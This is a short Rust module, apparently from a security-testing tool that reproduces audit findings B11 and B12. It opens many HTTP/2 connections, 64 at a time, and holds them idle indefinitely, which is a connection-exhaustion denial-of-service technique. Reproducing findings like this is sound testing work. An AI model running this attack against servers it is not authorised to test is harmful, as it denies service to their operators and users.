//! Connections of HTTP/2 that only answer pings (findings B11, B12).

use std::future::pending;

use futures::StreamExt;
use futures::stream;
use h2::client::Builder;

use crate::attacks::ground::Ground;

/// How many connections are opened at a time.
const AT_A_TIME: usize = 64;

/// Opens so many connections, and holds them.
pub(crate) async fn run(ground: Ground, connections: usize) {
    let builder = Builder::new();
    let opened = stream::iter(0..connections)
        .map(|_| ground.http2(&builder))
        .buffer_unordered(AT_A_TIME);
    // Held to the end of the attack.
    let _held: Vec<_> = opened.collect().await;
    pending().await
}
